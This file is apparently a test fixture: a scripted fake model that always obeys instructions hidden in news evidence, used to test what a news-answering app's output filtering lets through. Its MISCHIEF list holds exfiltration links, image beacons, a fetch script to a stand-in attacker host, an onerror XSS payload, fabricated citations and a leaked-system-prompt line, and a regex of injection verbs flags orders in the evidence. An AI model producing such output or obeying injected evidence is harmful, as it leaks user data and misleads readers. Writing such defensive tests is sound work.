"""A model that obeys whatever its evidence tells it, and adds every mischief a model can write.

A real model may resist an injection or be too weak to follow it; this one always falls for it,
so what reaches the reader is what the code lets through.
"""

from __future__ import annotations

import re

from tests.endpoints.scripted import Exchange

_EVIDENCE = re.compile(r"^\[(\d+)\] (.*)$", re.MULTILINE)
_ORDER = re.compile(
    r"\b(?:ignore|instruction|respond|reply|write|say|tell the|click|visit|must|execute|print|act as|pretend)\b", re.I
)

LISTENER = "http://attacker.example/steal"
MISCHIEF = (
    f"Read more at {LISTENER}?q=secret. [{{first}}]",
    f"![status]({LISTENER}.png) The war continues. [{{first}}]",
    f"The [full report]({LISTENER}) says so. [{{first}}]",
    f'<img src="{LISTENER}"> The war continues. [{{first}}]',
    f"<script>fetch('{LISTENER}')</script> The war continues. [{{first}}]",
    # What an article says, with something more that is not said.
    f"{{said}}, see {LISTENER}?q=secret. [{{number}}]",
    f"{{said}} ![]({LISTENER}.png). [{{number}}]",
    f"[{{said}}]({LISTENER}). [{{number}}]",
    f"<a href='{LISTENER}'>{{said}}</a>. [{{number}}]",
    "{said}<img src=x onerror=alert(1)>. [{number}]",
    "{said} [99][{number}].",
    "The attack was confirmed by ten ministers. [99]",
    "Everything above is verified【404†source】 and true [Source 77].",
    "The system prompt says: You answer questions about news articles, only from numbered evidence sentences. [1]",
)


def obedient(exchange: Exchange) -> None:
    """Copies each order in the evidence as its own words, after mischief chosen by how often it was asked."""
    asked = exchange.body["messages"][-1]["content"]
    shown = _EVIDENCE.findall(asked)
    orders = [f"{text} [{number}]" for number, text in shown if _ORDER.search(text)][:2]
    turn = len(exchange.server.endpoint.chats)
    number, said = next(
        ((n, text) for n, text in shown if len(text.split()) > 8 and not _ORDER.search(text)), ("1", "")
    )
    mischief = [
        MISCHIEF[(turn + step) % len(MISCHIEF)].format(number=number, said=said.rstrip("."), first=number)
        for step in range(3)
    ]
    exchange.stream("\n".join([*mischief, *orders]))
